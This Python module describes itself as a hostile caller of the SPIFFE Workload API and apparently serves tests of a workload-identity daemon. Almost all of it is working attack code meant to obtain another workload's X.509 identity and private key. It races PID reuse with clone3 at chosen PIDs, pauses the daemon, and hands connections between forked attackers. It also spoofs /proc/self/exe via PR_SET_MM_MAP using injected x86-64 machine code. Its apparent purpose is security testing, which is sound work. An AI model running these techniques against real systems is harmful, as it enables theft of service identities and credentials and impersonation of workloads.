"""A hostile caller of the Workload API. It writes HTTP/2 frames itself, so that a test can act between any two."""
import ctypes, os, signal, socket, struct, sys, threading, time

libc = ctypes.CDLL(None)


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def request(stream=1):
    """The frames of a complete FetchX509SVID request."""
    headers = {
        ":method": "POST", ":scheme": "http", ":path": "/SpiffeWorkloadAPI/FetchX509SVID", ":authority": "localhost",
        "content-type": "application/grpc", "te": "trailers", "workload.spiffe.io": "true",
    }
    block = b"".join(b"\0" + bytes([len(n)]) + n.encode() + bytes([len(v)]) + v.encode() for n, v in headers.items())
    return frame(1, 4, stream, block) + frame(0, 1, stream, b"\0" * 5)


HELLO = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"")


def connect():
    s = socket.socket(socket.AF_UNIX)
    s.settimeout(20)
    s.connect(sys.argv[1])
    return s


def say(s, data):
    """Sends data, even if the daemon has closed the connection."""
    try:
        s.sendall(data)
    except ConnectionError:
        pass


def answer(s):
    """Prints the outcome."""
    print(answered(s), flush=True)


def answered(s):
    """The outcome: "identity" or "nothing"."""
    found, data = "nothing", b""
    try:
        while True:
            while len(data) < 9 or len(data) < 9 + int.from_bytes(data[:3], "big"):
                more = s.recv(65536)
                if not more:
                    raise ConnectionError
                data += more
            size, kind, flags = int.from_bytes(data[:3], "big"), data[3], data[4]
            payload, data = data[9:9 + size], data[9 + size:]
            if kind == 0 and b"spiffe://" in payload:
                found = "identity"
                break
            if kind in (3, 7) or kind == 1 and flags & 1:
                break
    except ConnectionError:
        pass
    return found


def accepted(s):
    """Returns once the daemon has accepted the connection, which its first frame shows."""
    s.recv(1, socket.MSG_PEEK)


def key():
    """The private key that this process gets on a new connection."""
    s, data, begins = connect(), b"", bytes.fromhex("308187020100")
    say(s, HELLO + request())
    while begins not in data or len(data) < data.index(begins) + 138:
        more = s.recv(65536)
        assert more, "no identity"
        data += more
    return data[data.index(begins):][:138]


def compare(key, other):
    print("same" if key == other else "other", flush=True)


def held_back():
    """A connection whose answer waits for a window to open. Another answer to the process shows that it was decided."""
    s = connect()
    say(s, HELLO[:-9] + frame(4, 0, 0, struct.pack(">HI", 4, 0)) + request())
    accepted(s)
    other = connect()
    say(other, HELLO + request())
    assert answered(other) == "identity"
    return s


def opened(s):
    """The outcome once the window of the answer is open."""
    say(s, frame(8, 0, 1, struct.pack(">I", 1 << 20)))
    answer(s)


def become_with(uid, capability):
    """As `become`, and this capability and the groups stay."""
    libc.prctl(8, 1, 0, 0, 0)
    os.setresgid(uid, uid, uid)
    os.setresuid(uid, uid, uid)
    header, data = struct.pack("Ii", 0x20080522, 0), struct.pack("6I", 1 << capability, 1 << capability, 0, 0, 0, 0)
    assert libc.syscall(126, header, data) == 0


def become(uid):
    os.setgroups([])
    os.setresgid(uid, uid, uid)
    os.setresuid(uid, uid, uid)


def stop():
    """Stops the daemon, and returns once all of its threads have stopped."""
    daemon = int(sys.argv[2])
    os.kill(daemon, signal.SIGSTOP)
    for task in os.listdir(f"/proc/{daemon}/task"):
        while fields(f"/proc/{daemon}/task/{task}/stat")[0] != "T":
            pass


def go_on():
    os.kill(int(sys.argv[2]), signal.SIGCONT)


def fields(stat):
    """The fields after the name of a process: the first is its state, the twentieth its start time."""
    return open(stat).read().rsplit(") ", 1)[1].split()


def asks_and_becomes(program, uid, after_the_accept=False):
    """While the daemon is stopped, a process sends a request, leaves the connection to a child, and execs `program`."""
    connected, tells = os.pipe()
    stopped, lets_ask = os.pipe()
    if not after_the_accept:
        stop()
    asker = os.fork()
    if asker == 0:
        become(uid)
        s = connect()
        say(s, HELLO)
        if after_the_accept:
            accepted(s)
            os.write(tells, b".")
            os.read(stopped, 1)
        say(s, request())
        if os.fork() == 0:
            answer(s)
            os._exit(0)
        os.execv(program, ["python3", "-c", "import time; time.sleep(3)"])
    if after_the_accept:
        os.read(connected, 1)
        stop()
        os.write(lets_ask, b".")
    while os.readlink(f"/proc/{asker}/exe") != program:
        pass
    go_on()
    os.wait()


def clone_at(pid):
    """A fork whose child has this PID."""
    number = (ctypes.c_int * 1)(pid)
    arguments = (ctypes.c_uint64 * 11)(0, 0, 0, 0, signal.SIGCHLD, 0, 0, 0, ctypes.addressof(number), 1, 0)
    return libc.syscall(435, arguments, ctypes.sizeof(arguments))


def attackers(uid):
    """Forks one attacker for each request on the link; each sends its PID, its start time and its connection."""
    link = socket.socket(fileno=int(sys.argv[3]))
    while link.recv(1):
        if os.fork() == 0:
            become(uid)
            s = connect()
            say(s, HELLO + request())
            started = int(fields("/proc/self/stat")[19])
            socket.send_fds(link, [struct.pack("QQ", os.getpid(), started)], [s.fileno()])
            os._exit(0)
        os.wait()
        link.send(b".")


def attack(link, victim, at_once, stopped):
    """Counts the reused PIDs, those whose process started in the same tick as its predecessor, and those that won."""
    if stopped:
        stop()
    connections, victims, same_tick = [], [], 0
    ready, becomes_ready = os.pipe()
    for _ in range(at_once):
        link.send(b".")
    for _ in range(at_once):
        left, descriptors, _, _ = socket.recv_fds(link, 16, 1)
        pid, started = struct.unpack("QQ", left)
        connections.append(socket.socket(fileno=descriptors[0]))
        link.recv(1)
        child = clone_at(pid)
        if child == 0:
            become(victim)
            os.write(becomes_ready, b".")
            signal.pause()
        if child == pid:
            same_tick += int(fields(f"/proc/{pid}/stat")[19]) == started
            victims.append(pid)
    for _ in victims:
        os.read(ready, 1)
    if stopped:
        go_on()
    won = 0
    for s in connections:
        s.settimeout(20)
        won += answered(s) == "identity"
        s.close()
    for pid in victims:
        os.kill(pid, signal.SIGKILL)
    for pid in victims:
        os.waitpid(pid, 0)
    os.close(ready)
    os.close(becomes_ready)
    return len(victims), same_tick, won


def attacks(python, victim, tries, seconds):
    """Half of the attacks run while the daemon is stopped, before its accept; the others as fast as possible."""
    link, theirs = socket.socketpair(socket.AF_UNIX, socket.SOCK_SEQPACKET)
    if os.fork() == 0:
        os.set_inheritable(theirs.fileno(), True)
        os.execv(python, ["python3", "-c", sys.orig_argv[2], *sys.argv[1:], str(theirs.fileno())])
    theirs.close()
    end, total = time.monotonic() + seconds, [0, 0, 0]
    while total[0] < tries and time.monotonic() < end:
        for at_once, stopped in (64, True), (64, False):
            total = [a + b for a, b in zip(total, attack(link, victim, at_once, stopped))]
    print(*total)


# A function of (program, copy, length) that copies the program's pages and maps the copy in their place, in one call:
# rep movsb; mremap(copy, length, length, MREMAP_MAYMOVE | MREMAP_FIXED, program).
REPLACE = bytes.fromhex("4989f84889d1 4887fe 57 f3a4 5f 4889d6 41ba03000000 b819000000 0f05 c3")


# A function of (map, size) that clones a child in the same memory (CLONE_VM | CLONE_VFORK) and in a user namespace of its
# own (CLONE_NEWUSER). The child calls prctl(PR_SET_MM, PR_SET_MM_MAP, map, size, 0) and exits with its errno.
CLONE_AND_CLAIM = bytes.fromhex(
    "4989f9 4989f0 bf11410010 31f6 31d2 4531d2 b838000000 0f05 85c0 7401 c3"
    "bf23000000 be0e000000 4c89ca 4d89c2 4531c0 b89d000000 0f05 89c7 f7df b83c000000 0f05")


def claim_to_run(program):
    """Points /proc/self/exe at another program with PR_SET_MM_MAP, which its own user namespace permits."""
    memory_map = map_of_another(program)
    assert libc.prctl(35, 14, memory_map, ctypes.c_ulong(len(memory_map)), 0) == 0


def claim_by_child(program):
    """Has a child in a user namespace of its own point the exe link of the memory that both share at another program.
    Returns the errno of its clone or its prctl: 0 if it succeeded."""
    memory_map = map_of_another(program)
    machine_code = anonymous(4096, 7)
    ctypes.memmove(machine_code, CLONE_AND_CLAIM, len(CLONE_AND_CLAIM))
    clone_and_claim = ctypes.CFUNCTYPE(ctypes.c_long, ctypes.c_char_p, ctypes.c_size_t)(machine_code)
    child = clone_and_claim(memory_map, len(memory_map))
    return -child if child < 0 else os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])


def anonymous(size, access):
    libc.mmap.restype = ctypes.c_void_p
    return libc.mmap(None, ctypes.c_size_t(size), access, 0x22, -1, ctypes.c_size_t(0))


def map_of_another(program):
    """What PR_SET_MM_MAP takes to point the exe link at another program. The pages of the own program become anonymous,
    for the kernel refuses to replace a program that is still mapped."""
    own = os.readlink("/proc/self/exe")
    machine_code = anonymous(4096, 7)
    ctypes.memmove(machine_code, REPLACE, len(REPLACE))
    replace = ctypes.CFUNCTYPE(ctypes.c_long, ctypes.c_size_t, ctypes.c_size_t, ctypes.c_size_t)(machine_code)
    maps = [line.split() for line in open("/proc/self/maps")]
    for span, *_ in (line for line in maps if line[-1] == own):
        start, end = (int(address, 16) for address in span.split("-"))
        copy = anonymous(end - start, 7)
        assert replace(start, copy, end - start) == start
    stat = fields("/proc/self/stat")
    *code, stack = [int(field) for field in stat[23:26]]
    *data_and_heap, arguments, arguments_end, variables, variables_end = [int(field) for field in stat[42:49]]
    libc.sbrk.restype = ctypes.c_void_p
    heap_end, file = libc.sbrk(0), os.open(program, os.O_RDONLY)
    addresses = [*code, *data_and_heap, heap_end, stack, arguments, arguments_end, variables, variables_end]
    return struct.pack("12QII", *addresses, 0, 0, file)
